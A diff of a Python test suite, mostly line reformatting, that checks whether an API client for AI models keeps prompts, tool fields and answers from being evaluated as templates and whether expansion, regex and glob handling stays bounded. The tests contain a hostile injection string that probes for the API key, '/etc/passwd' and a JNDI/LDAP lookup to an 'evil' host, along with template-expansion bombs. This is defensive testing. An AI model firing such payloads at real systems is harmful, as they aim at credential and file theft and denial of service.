@@ -5,7 +5,6 @@ from __future__ import annotations
 import json
 import time
 from pathlib import Path
-from typing import Any
 
 import httpx
 import pytest
@@ -109,15 +108,37 @@ def test_a4_a_secret_is_no_name_outside_auth(spot: str) -> None:
 def test_a4_answers_and_prompts_are_never_templates() -> None:
     """A4, M4: what is rendered once is data; expressions in a prompt, a tool or an answer stay text."""
     evil = '{{ api_key }} {% include "/etc/passwd" %} ${jndi:ldap://evil} {{ 7*7 }} %(x)s {0.__class__}'
-    made, seen = client(local(HEAD + CHAT), reply=lambda r: httpx.Response(200, json={**ANSWER, "choices": [
-        {"index": 0, "message": {"content": evil, "tool_calls": [
-            {"id": "1", "function": {"name": evil, "arguments": json.dumps({"a": evil})}}]}, "finish_reason": "stop"}]}))
-    tool = {"type": "function", "function": {"name": "f", "description": evil, "parameters": {"type": "object", "properties": {evil: {}}}}}
+    made, seen = client(
+        local(HEAD + CHAT),
+        reply=lambda r: httpx.Response(
+            200,
+            json={
+                **ANSWER,
+                "choices": [
+                    {
+                        "index": 0,
+                        "message": {
+                            "content": evil,
+                            "tool_calls": [{"id": "1", "function": {"name": evil, "arguments": json.dumps({"a": evil})}}],
+                        },
+                        "finish_reason": "stop",
+                    }
+                ],
+            },
+        ),
+    )
+    tool = {
+        "type": "function",
+        "function": {"name": "f", "description": evil, "parameters": {"type": "object", "properties": {evil: {}}}},
+    }
     answer = made.chat("stranger/m", evil, tools=[tool], user=evil)
     sent = json.loads(seen[0].content)
     assert sent["messages"][0]["content"] == evil and sent["tools"][0]["function"]["description"] == evil
     assert answer.text == evil and answer.tool_calls[0].arguments == {"a": evil}
-    again = made.chat("stranger/m", [{"role": "user", "content": "a"}, {"role": "assistant", "content": answer.text}, {"role": "user", "content": "b"}])
+    again = made.chat(
+        "stranger/m",
+        [{"role": "user", "content": "a"}, {"role": "assistant", "content": answer.text}, {"role": "user", "content": "b"}],
+    )
     assert again.text == evil and json.loads(seen[1].content)["messages"][1]["content"] == evil
 
 
@@ -128,11 +149,17 @@ LOOPS = {
     ),
     "wide": "  body: {" + ", ".join(f'k{i}: "{{{{ messages }}}}"' for i in range(600)) + "}\n",
     "wide text": "  body: {" + ", ".join(f'k{i}: "x{{{{ messages[0].text }}}}"' for i in range(600)) + "}\n",
-    "join": '  body: {k: {$join: "' + "x" * 1000 + '", $value: {$for: a in messages, $value: {$for: b in messages, $value: "{{ a.text }}"}}}}\n',
-    "replace": "  body: {k: \"{{ messages[0].text | replace('a', '" + "b" * 2000 + "') | replace('b', '" + "c" * 2000 + "') }}\"}\n",
-    "json": "  body: {k: \"{{ messages" + " | json" * 40 + ' }}"}\n',
-    "base64": "  body: {k: \"{{ messages | json" + " | b64" * 40 + ' }}"}\n',
-    "doubling": "  body: {k: \"{{ " + "(" * 30 + "messages[0].text" + " ~ messages[0].text)" * 30 + ' }}"}\n',
+    "join": '  body: {k: {$join: "'
+    + "x" * 1000
+    + '", $value: {$for: a in messages, $value: {$for: b in messages, $value: "{{ a.text }}"}}}}\n',
+    "replace": "  body: {k: \"{{ messages[0].text | replace('a', '"
+    + "b" * 2000
+    + "') | replace('b', '"
+    + "c" * 2000
+    + "') }}\"}\n",
+    "json": '  body: {k: "{{ messages' + " | json" * 40 + ' }}"}\n',
+    "base64": '  body: {k: "{{ messages | json' + " | b64" * 40 + ' }}"}\n',
+    "doubling": '  body: {k: "{{ ' + "(" * 30 + "messages[0].text" + " ~ messages[0].text)" * 30 + ' }}"}\n',
     "parts in parts": (
         '  parts: {text: {a: "{{ parts(messages[0].parts) }}", b: "{{ parts(messages[0].parts) }}"}}\n'
         '  body: {k: "{{ parts(messages[0].parts) }}"}\n'
@@ -162,7 +189,9 @@ def test_a4_the_limit_holds_outside_bodies(name: str) -> None:
     bomb = "{{ user" + " | replace('a', '" + "a" * 900 + "')" * 1 + " }}"
     text = HEAD + "chat:\n  post: /x\n" + BARE
     text = {
-        "auth": text.replace("{{ api_key }}", "{{ api_key | replace('a', '" + "a" * 3000 + "') | replace('a', '" + "a" * 3000 + "') }}"),
+        "auth": text.replace(
+            "{{ api_key }}", "{{ api_key | replace('a', '" + "a" * 3000 + "') | replace('a', '" + "a" * 3000 + "') }}"
+        ),
         "header": text + f'  headers: {{X-A: "{bomb}"}}\n',
         "query": text + f'  query: {{a: "{bomb}"}}\n',
         "path": text.replace("post: /x", f'post: "/{bomb}"'),
@@ -213,7 +242,9 @@ def test_a5_a_query_bomb_ends_in_a_typed_error(name: str, where: str) -> None:
 
     def reply(request: httpx.Request) -> httpx.Response:
         if where == "stream":
-            return httpx.Response(200, text=f"data: {json.dumps(many)}\n\ndata: [DONE]\n\n", headers={"content-type": "text/event-stream"})
+            return httpx.Response(
+                200, text=f"data: {json.dumps(many)}\n\ndata: [DONE]\n\n", headers={"content-type": "text/event-stream"}
+            )
         return httpx.Response(500 if where == "errors" else 200, json=many)
 
     start = time.process_time()
@@ -271,14 +302,19 @@ def test_a6_no_pattern_is_slow(pattern: str, tmp_path: Path) -> None:
     assert time.process_time() - start < 5
 
 
-@pytest.mark.parametrize("pattern", ["[a-z]+(-[a-z]+)+-[0-9]", "[A-Za-z0-9-]+", "[a-z]{2}(-[a-z]+)?-[0-9]{1,2}", "eu|us|ap", "[a-z0-9]([a-z0-9-]*[a-z0-9])?"])
+@pytest.mark.parametrize(
+    "pattern",
+    ["[a-z]+(-[a-z]+)+-[0-9]", "[A-Za-z0-9-]+", "[a-z]{2}(-[a-z]+)?-[0-9]{1,2}", "eu|us|ap", "[a-z0-9]([a-z0-9-]*[a-z0-9])?"],
+)
 def test_a6_honest_patterns_match_honest_values(pattern: str) -> None:
     values = ["us-east-1", "us-gov-west-1", "my-resource-0123456789", "eu", "ap-south-1"]
     assert any(pattern_matches(pattern, v) for v in values)
     assert not any(pattern_matches(pattern, v) for v in ("a.b", "a/b", "a" * 5000, "", "é"))
 
 
-@pytest.mark.parametrize("glob", ["*a" * 99 + "b", "*" * 200, "[a-z]*" * 33, "?*" * 90 + "0", "[" * 200, "*[!a]" * 40, "x" * 201, "[]-a]*", "[\\]*"])
+@pytest.mark.parametrize(
+    "glob", ["*a" * 99 + "b", "*" * 200, "[a-z]*" * 33, "?*" * 90 + "0", "[" * 200, "*[!a]" * 40, "x" * 201, "[]-a]*", "[\\]*"]
+)
 def test_a6_globs_are_linear(glob: str) -> None:
     start = time.process_time()
     for model in ("a" * 4096, "b" * 5000, "a" * 50 + "b", "ab" * 2000):
